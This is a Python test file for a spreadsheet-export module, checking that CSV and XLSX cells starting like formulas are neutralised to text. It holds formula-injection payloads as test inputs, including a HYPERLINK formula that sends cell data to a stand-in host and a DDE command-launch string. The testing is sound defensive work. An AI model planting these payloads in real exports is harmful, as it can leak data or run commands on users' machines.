"""CSV exports open in a spreadsheet as data: no cell we did not compute runs as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from microcred_market.platform.spreadsheet import FORMULA_STARTS, csv_bytes, csv_text, neutralise

pytestmark = pytest.mark.portal


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_be_a_formula_is_text(hostile: str) -> None:
    assert neutralise(hostile) == "'" + hostile
    (row,) = list(csv.reader(io.StringIO(csv_text(["x"], [[hostile]]))))[1:]
    assert not row[0].startswith(FORMULA_STARTS)


@given(st.text(max_size=40))
def test_no_text_ever_leaves_starting_as_a_formula_and_nothing_else_changes(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out in (text, "'" + text)


def test_numbers_we_computed_stay_numbers() -> None:
    assert neutralise(-1250) == "-1250"
    assert neutralise(Decimal("-12.50")) == "-12.50"
    assert neutralise(None) == ""


def test_the_file_is_utf8_with_a_bom_for_polish_letters() -> None:
    data = csv_bytes(["Miesiąc"], [["Łódź"]])
    assert data.startswith("\ufeff".encode())
    assert "Łódź".encode() in data


def test_xlsx_cells_are_never_formulas_and_numbers_stay_numbers() -> None:
    from openpyxl import load_workbook

    from microcred_market.platform.spreadsheet import xlsx_bytes

    hostile = ['=HYPERLINK("http://evil.example")', "+1", "-2+3", "@SUM(1)", "=1+1"]
    data = xlsx_bytes(["=header", "n"], [[h, Decimal("-12.50")] for h in hostile] + [["a\x01b", 3]])
    sheet = load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows())
    assert rows[0][0].value == "'=header"
    for row, text in zip(rows[1:], hostile, strict=False):
        assert row[0].data_type == "s" and row[0].value == "'" + text
        assert row[1].data_type == "n" and float(row[1].value) == -12.5
    assert rows[-1][0].value == "ab"  # a control character XML cannot hold is dropped
    assert all(cell.data_type != "f" for row in rows for cell in row)
